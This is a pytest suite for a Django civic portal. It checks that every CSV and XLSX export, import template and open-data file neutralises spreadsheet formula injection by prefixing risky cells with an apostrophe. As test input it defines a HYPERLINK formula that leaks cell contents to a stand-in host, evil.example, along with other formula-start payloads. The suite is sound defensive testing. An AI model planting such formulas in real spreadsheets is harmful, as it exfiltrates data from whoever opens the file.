"""Formulas never leave the portal: every CSV and XLSX it writes neutralises them (issue 12.4).

A citizen's consultation comment "=HYPERLINK(…)" published in the open data, a partner's activity
title, a staff-named funding source: whatever text reaches a spreadsheet cell is prefixed with
an apostrophe when it starts with =, +, -, @, tab or CR. Numbers (also negative) stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from bilancio_sociale import opendata, services
from bilancio_sociale.models import Edition, Outcome
from cantieri.models import ActivityImport, ActivityRecord, FundingSource, ImportStatus, TargetGroup
from citta_del_noi.common.spreadsheets import FORMULA_START, neutralize_cell
from citta_del_noi.jobs.models import Job
from tests.bilancio_sociale.factories import fill_monitoring, make_decision
from tests.cantieri.factories import quartiere_in, record

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1;"clic")'
EVILS = [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"]


@pytest.fixture(autouse=True)
def _media_root(settings, tmp_path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def _cells_csv(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _cells_xlsx(content: bytes) -> list[list[Any]]:
    wb = load_workbook(io.BytesIO(content))  # not data_only: a formula would show as "=…"
    rows: list[list[Any]] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
            rows.append([cell.value for cell in row])
    return rows


def _published_edition_with_citizen_answer(world: Any, text: str = EVIL) -> Edition:
    staff = world.users["staff"]
    edition = services.edition_create(
        title="Bilancio Sociale 2017",
        period_start=date(2017, 1, 1),
        period_end=date(2017, 12, 31),
        by=staff,
    )
    edition = services.edition_open_consultation(edition=edition, by=staff)
    # A citizen (no account): comment, then confirm through the emailed link.
    contribution = services.contribution_submit(
        edition=edition,
        section_key="citta",
        text=text,
        email="cittadina@example.org",
        consent=True,
    )
    confirmed = services.contribution_confirm(token=contribution.confirm_token)
    assert confirmed is not None
    contribution = confirmed
    services.contribution_moderate(contribution=contribution, publish=True, by=staff)
    services.contribution_answer(
        contribution=contribution, outcome=Outcome.DECLINED, answer="@risposta", by=staff
    )
    fill_monitoring(edition, staff)
    services.edition_approve(
        edition=edition, decision=make_decision(by=staff, edition=edition), by=staff
    )
    services.edition_publish(edition=edition, by=staff)
    edition.refresh_from_db()
    return edition


def test_citizen_formula_in_published_answers_csv_is_neutralised(world) -> None:
    edition = _published_edition_with_citizen_answer(world)
    url = reverse(
        "bilancio_sociale:block_csv",
        kwargs={"slug": edition.slug, "section": "partecipazione", "block": "risposte"},
    )
    response = Client().get(url)
    assert response.status_code == 200
    cells = [c for row in _cells_csv(response.content) for c in row]
    assert "'" + EVIL in cells
    assert "'@risposta" in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    # The Table Schema says what the apostrophe means.
    schema = Client().get(url.replace(".csv", ".schema.json")).json()
    assert schema["formulaPrefix"] == "'" and "apostrofo" in schema["formulaPrefixMeaning"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("-2+3", "'-2+3"),
        ("+39 030 1234", "'+39 030 1234"),
        ("@user", "'@user"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),  # a plain number written as text: a spreadsheet reads the number
        ("-0.25", "-0.25"),
        (-5, -5),  # numbers stay numbers
        (Decimal("-1.50"), Decimal("-1.50")),
        (-2.5, -2.5),
        ("Testo normale", "Testo normale"),
        (None, None),
    ],
)
def test_neutralize_cell(value, expected) -> None:
    assert neutralize_cell(value) == expected


# --- every output --------------------------------------------------------------------------


def _client(world: Any, role: str) -> Client:
    client = Client()
    client.force_login(world.users[role])
    return client


def _activity_export_csv(world: Any) -> list[list[Any]]:
    response = _client(world, "partner_a").get(reverse("cantieri:activity_export", args=["csv"]))
    return _cells_csv(b"".join(response.streaming_content))  # type: ignore[attr-defined]


def _export_job_file(world: Any, fmt: str, capture: Any) -> bytes:
    client = _client(world, "partner_a")
    with capture(execute=True):
        response = client.post(reverse("cantieri:activity_export", args=[fmt]))
    assert response.status_code == 302
    job = Job.objects.filter(kind="cantieri.export").latest("pk")
    assert job.status == "done", job.error
    download = client.get(reverse("jobs:file", args=[job.pk]))
    assert download.status_code == 200
    return b"".join(download.streaming_content)  # type: ignore[attr-defined]


def _activity_export_xlsx_job(world: Any, capture: Any) -> list[list[Any]]:
    return _cells_xlsx(_export_job_file(world, "xlsx", capture))


def _activity_export_csv_job(world: Any, capture: Any) -> list[list[Any]]:
    return _cells_csv(_export_job_file(world, "csv", capture))


def _import_template(world: Any, fmt: str) -> list[list[Any]]:
    response = _client(world, "partner_a").get(reverse("cantieri:import_template", args=[fmt]))
    assert response.status_code == 200
    return _cells_xlsx(response.content) if fmt == "xlsx" else _cells_csv(response.content)


def _import_report(world: Any) -> list[list[Any]]:
    upload: ActivityImport = world.import_a
    upload.status = ImportStatus.DONE
    upload.report = {
        "rows": [
            {
                "line": 2,
                "key": "=1+1",
                "title": EVIL,
                "outcome": "rejected",
                "errors": [{"column": "-colonna", "message": "@messaggio"}],
            }
        ]
    }
    upload.save()
    response = _client(world, "partner_a").get(reverse("cantieri:import_report", args=[upload.pk]))
    assert response.status_code == 200
    return _cells_csv(response.content)


def _agencies_template(world: Any, fmt: str) -> list[list[Any]]:
    response = _client(world, "agency").get(reverse("agencies:serviceunit_template", args=[fmt]))
    assert response.status_code == 200
    return _cells_xlsx(response.content) if fmt == "xlsx" else _cells_csv(response.content)


def _open_data_all_blocks(world: Any) -> list[list[Any]]:
    edition = _published_edition_with_citizen_answer(world)
    version = edition.versions.order_by("-number").first()
    assert version is not None
    rows: list[list[Any]] = []
    client = Client()
    for section, block in opendata.protected_blocks(version.snapshot.data, version.texts):
        url = reverse(
            "bilancio_sociale:block_csv",
            kwargs={"slug": edition.slug, "section": section["key"], "block": block["key"]},
        )
        response = client.get(url)
        assert response.status_code == 200, url
        rows.extend(_cells_csv(response.content))
    return rows


OUTPUTS: dict[str, Callable[..., list[list[Any]]]] = {
    "cantieri: esportazione attività CSV (in streaming)": lambda w, c: _activity_export_csv(w),
    "cantieri: esportazione attività CSV (lavoro)": _activity_export_csv_job,
    "cantieri: esportazione attività XLSX (lavoro)": _activity_export_xlsx_job,
    "cantieri: modello di importazione XLSX": lambda w, c: _import_template(w, "xlsx"),
    "cantieri: modello di importazione CSV": lambda w, c: _import_template(w, "csv"),
    "cantieri: esito dell'importazione CSV": lambda w, c: _import_report(w),
    "agencies: modello della mappa del welfare XLSX": lambda w, c: _agencies_template(w, "xlsx"),
    "agencies: modello della mappa del welfare CSV": lambda w, c: _agencies_template(w, "csv"),
    "bilancio_sociale: dati aperti, ogni blocco CSV": lambda w, c: _open_data_all_blocks(w),
}


@pytest.mark.parametrize("name", list(OUTPUTS))
def test_no_output_cell_starts_like_a_formula(
    name, world, django_capture_on_commit_callbacks
) -> None:
    # Dangerous text wherever users write what ends in a file: activity titles and
    # descriptions (partners), names of target groups and funding sources (staff).
    for i, evil in enumerate(EVILS):
        a = record(world.org_a, title=evil, quartieri=[quartiere_in("nord")])
        ActivityRecord.objects.filter(pk=a.pk).update(description=evil, spaces=evil)
        TargetGroup.objects.create(name=f"{evil} gruppo {i}", slug=f"evil-{i}")
        FundingSource.objects.create(
            name=f"{evil} fonte {i}", slug=f"evil-fonte-{i}", sector="pubblico"
        )
    rows = OUTPUTS[name](world, django_capture_on_commit_callbacks)
    assert rows, "the output has no rows"
    bad = [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, str) and cell.startswith(FORMULA_START)
    ]
    assert not bad
